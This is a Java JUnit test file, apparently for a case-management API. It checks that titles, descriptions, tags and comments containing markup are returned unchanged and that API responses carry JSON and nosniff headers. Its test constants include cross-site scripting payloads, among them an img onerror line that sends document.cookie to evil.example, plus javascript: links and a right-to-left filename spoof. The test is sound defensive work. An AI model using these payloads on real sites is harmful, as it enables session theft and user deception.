package io.casebook.api.hostile;

import com.fasterxml.jackson.databind.JsonNode;
import io.casebook.support.Api;
import io.casebook.support.AttachmentFixtures;
import io.casebook.support.NewCaseBody;
import io.casebook.support.TestEngine;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;


import static org.assertj.core.api.Assertions.assertThat;

/**
 * Markdown and HTML are text: titles, descriptions, tags and comments come back byte for byte as they were
 * sent (nothing escaped, stripped or rendered), in JSON answers a browser is told not to sniff.
 */
class HostileTextTest {

    static final String SCRIPT = "<script>alert('x')</script> & \"quotes\"";
    static final String IMG = "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">";
    static final String MARKDOWN = "[click me](javascript:alert(1)) ![](http://evil.example/p.png) **bold** `code`"
            + " <a href=\"//evil.example\">a</a>\n\n| table |\n|---|";
    static final String UNICODE = "caf\u00e9 \u2603 \uD83D\uDD25 e\u0301 \u202Egnp.exe\u202C \u200F\u05E9\u05DC\u05D5\u05DD"
            + " \uFEFF zero\u200Bwidth";

    static TestEngine engine;
    static Api api;

    @BeforeAll
    static void start() {
        engine = TestEngine.start();
        api = engine.api();
    }

    @AfterAll
    static void stop() {
        engine.close();
    }

    @Test
    void titlesDescriptionsTagsAndCommentsAreStoredAndReturnedAsSent() {
        String description = String.join("\n", SCRIPT, IMG, MARKDOWN, UNICODE);
        String title = SCRIPT.substring(0, 30) + " \u202E" + "\uD83D\uDD25";
        List<String> tags = List.of("<b>bold</b>", IMG.substring(0, 40), "\u202Eevil", "\u05E9\u05DC\u05D5\u05DD");
        JsonNode created = NewCaseBody.titled(title).description(description).with("tags", tags).createIn(api,
                "default");
        String id = created.path("id").asText();
        assertSame(created, title, description, tags);

        String comment = String.join("\n", MARKDOWN, IMG, UNICODE, SCRIPT);
        Api.Result commented = api.post("/api/cases/" + id + "/comments", AttachmentFixtures.userComment(comment));
        assertThat(commented.status()).as(commented.raw()).isEqualTo(200);

        JsonNode read = api.get("/api/cases/" + id).body();
        assertSame(read, title, description, tags);
        JsonNode comments = api.get("/api/cases/" + id + "/comments/_find").body();
        assertThat(comments.at("/comments/0/comment").asText()).isEqualTo(comment);
        JsonNode found = api.get("/api/cases/_find?search=" + java.net.URLEncoder.encode("script",
                java.nio.charset.StandardCharsets.UTF_8)).body();
        assertThat(found.path("cases")).anySatisfy(c -> assertSame(c, title, description, tags));
    }

    @Test
    void everyApiAnswerIsJsonThatBrowsersMustNotSniff() throws Exception {
        JsonNode created = NewCaseBody.titled(SCRIPT).createIn(api, "default");
        for (String path : List.of("/api/cases/" + created.path("id").asText(), "/api/cases/_find",
                "/api/cases/no-such-case", "/api/no-such-path", "/s/x/api/cases/_find", "/internal/nothing")) {
            HttpResponse<String> answer = raw(HttpRequest.newBuilder(URI.create(api.base() + path)).GET());
            assertThat(answer.headers().firstValue("X-Content-Type-Options")).as(path).contains("nosniff");
            assertThat(answer.headers().firstValue("Content-Type")).as(path).hasValueSatisfying(
                    type -> assertThat(type).startsWith("application/json"));
        }
        HttpResponse<String> refused = raw(HttpRequest.newBuilder(URI.create(api.base() + "/api/cases"))
                .header("kbn-xsrf", "true").header("Content-Type", "text/html")
                .POST(HttpRequest.BodyPublishers.ofString("<html><script>alert(1)</script></html>")));
        assertThat(refused.statusCode()).isIn(401, 415);
        assertThat(refused.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
        assertThat(refused.body()).doesNotContain("<script>");
    }

    private static void assertSame(JsonNode theCase, String title, String description, List<String> tags) {
        assertThat(theCase.path("title").asText()).isEqualTo(title);
        assertThat(theCase.path("description").asText()).isEqualTo(description);
        assertThat(theCase.path("tags")).extracting(JsonNode::asText).containsExactlyInAnyOrderElementsOf(tags);
    }

    /** Headers are what this test is about, so it reads the raw answer whatever its status. */
    private static HttpResponse<String> raw(HttpRequest.Builder request) throws IOException, InterruptedException {
        return HttpClient.newHttpClient().send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

}
